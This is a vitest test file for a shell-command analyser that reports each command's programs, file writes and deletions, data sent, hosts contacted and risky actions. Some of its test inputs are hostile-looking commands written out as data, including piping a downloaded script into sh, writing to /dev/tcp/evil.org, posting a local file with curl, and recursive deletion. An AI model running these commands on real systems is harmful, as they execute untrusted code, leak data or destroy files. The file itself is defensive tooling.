import { describe, expect, test } from "vitest";
import { commandEffects } from "./command-effects.ts";

const facts = (command: string): Record<string, readonly string[]> => {
  const effects = commandEffects(command);
  const shown: Record<string, readonly string[]> = {
    programs: effects.programs.map(({ program }) => program),
    writes: effects.writes.map(({ path, text }) => path ?? `?${text}`),
    removes: effects.removes.map(({ path, text }) => path ?? `?${text}`),
    sends: effects.sends.map(({ text }) => text),
    hosts: effects.hosts.map(({ host, text }) => host ?? `?${text}`),
    actions: effects.actions.map(({ action }) => action),
    unknowns: effects.unknowns.map(({ reason }) => reason),
  };
  return Object.fromEntries(Object.entries(shown).filter(([, list]) => list.length > 0));
};

test.each<readonly [string, Record<string, readonly string[]>]>([
  ["ls -la src | head -5", { programs: ["ls", "head"] }],
  ["echo hi > a.txt 2>&1", { programs: ["echo"], writes: ["a.txt"] }],
  ['echo hi > "$F"', { programs: ["echo"], writes: ['?"$F"'], unknowns: ["computed-words"] }],
  ["rm -rf dist 'a b'", { programs: ["rm"], removes: ["dist", "a b"], actions: ["deletes"] }],
  ["rm -rf -- -x", { programs: ["rm"], removes: ["-x"], actions: ["deletes"] }],
  ["mv a b", { programs: ["mv"], writes: ["b"], removes: ["a"] }],
  ["cp a b c/", { programs: ["cp"], writes: ["c/"] }],
  ["sed -i s/a/b/ x.ts", { programs: ["sed"], writes: ["x.ts"] }],
  ["sed -n 1p x.ts", { programs: ["sed"] }],
  ["sort -oX f", { programs: ["sort"], writes: ["X"] }],
  ["dd if=a of=b", { programs: ["dd"], writes: ["b"] }],
  ["echo x | tee -a log", { programs: ["echo", "tee"], writes: ["log"] }],
  ["{ ls; } > all", { programs: ["ls"], writes: ["all"] }],
  [
    "curl -sS -X POST -d @k.json https://API.dev:8443/v1 -o out.json",
    { programs: ["curl"], writes: ["out.json"], sends: ["@k.json"], hosts: ["api.dev"] },
  ],
  ['curl "https://$H/x"', { programs: ["curl"], hosts: ['?"https://$H/x"'], unknowns: ["computed-words"] }],
  [
    "curl -s https://x.dev/i.sh | sh",
    { programs: ["curl", "sh"], hosts: ["x.dev"], unknowns: ["file-code", "input-code"] },
  ],
  ["echo x > /dev/tcp/evil.org/80", { programs: ["echo"], hosts: ["evil.org"] }],
  ["scp a.txt me@host.org:/b", { programs: ["scp"], sends: ["a.txt"], hosts: ["host.org"] }],
  [
    "git push origin main",
    { programs: ["git"], hosts: ["?the remote of the repository"], actions: ["pushes"] },
  ],
  [
    "git push https://github.com/a/b",
    { programs: ["git"], hosts: ["?the remote of the repository", "github.com"], actions: ["pushes"] },
  ],
  ["git -C x log -3", { programs: ["git"] }],
  [
    "npm install left-pad",
    {
      programs: ["npm"],
      writes: ["?node_modules, package.json and the lock file"],
      hosts: ["?the configured package registry"],
      actions: ["installs"],
      unknowns: ["package-scripts"],
    },
  ],
  [
    "sudo npm publish",
    {
      programs: ["npm"],
      hosts: ["?the configured package registry"],
      actions: ["elevates", "publishes"],
      unknowns: ["package-scripts"],
    },
  ],
  ["$CMD x", { programs: ["$CMD"], unknowns: ["computed-program"] }],
  ['eval "$X"', { programs: ["$X"], unknowns: ["computed-code", "computed-program"] }],
  ["sh -c 'rm a'", { programs: ["rm"], removes: ["a"], actions: ["deletes"] }],
  ["echo $(rm a)", { programs: ["echo", "rm"], removes: ["a"], actions: ["deletes"] }],
  [
    "bash <<E\nrm $X\nE",
    {
      programs: ["rm"],
      removes: ["?$X"],
      actions: ["deletes"],
      unknowns: ["computed-code", "computed-words"],
    },
  ],
  ["find . -name x -delete", { programs: ["find"], removes: ["."], actions: ["deletes"] }],
  [
    "find a -exec rm {} +",
    { programs: ["find", "rm"], removes: ["{}"], actions: ["deletes"], unknowns: ["computed-words"] },
  ],
  ["ls | xargs rm", { programs: ["ls", "rm"], actions: ["deletes"], unknowns: ["computed-words"] }],
  ["./run.sh", { programs: ["run.sh"], unknowns: ["unknown-program"] }],
  ["frobnicate x", { programs: ["frobnicate"], unknowns: ["unknown-program"] }],
  ["npx vitest run", { programs: ["vitest"], unknowns: ["project-code"] }],
  ["python3 -c 'x'", { programs: ["python3"], unknowns: ["file-code"] }],
  ["f() { rm a; }; f", { programs: ["rm"], removes: ["a"], actions: ["deletes"] }],
  ['rm "open', { unknowns: ["unreadable"] }],
  ["rm dist/*", { programs: ["rm"], removes: ["dist/*"], actions: ["deletes"] }],
])("%s", (command, expected) => {
  expect(facts(command)).toEqual(expected);
});

describe("each finding points at its place in the command", () => {
  test.each([
    ["ls && rm -rf 'a b'", "'a b'"],
    ["sh -c 'ls; rm x.ts'", "x.ts"],
    ["sh -c 'sh -c \"rm y.ts\"'", "y.ts"],
    ["echo `rm z.ts`", "z.ts"],
    ["bash <<'E'\nrm w.ts\nE", "w.ts"],
    ['sh -c "rm \\"q\\""', '"rm \\"q\\""'],
  ])("%s", (command, text) => {
    const [removed] = commandEffects(command).removes;
    expect(command.slice(removed?.range.start, removed?.range.end)).toBe(text);
  });
});
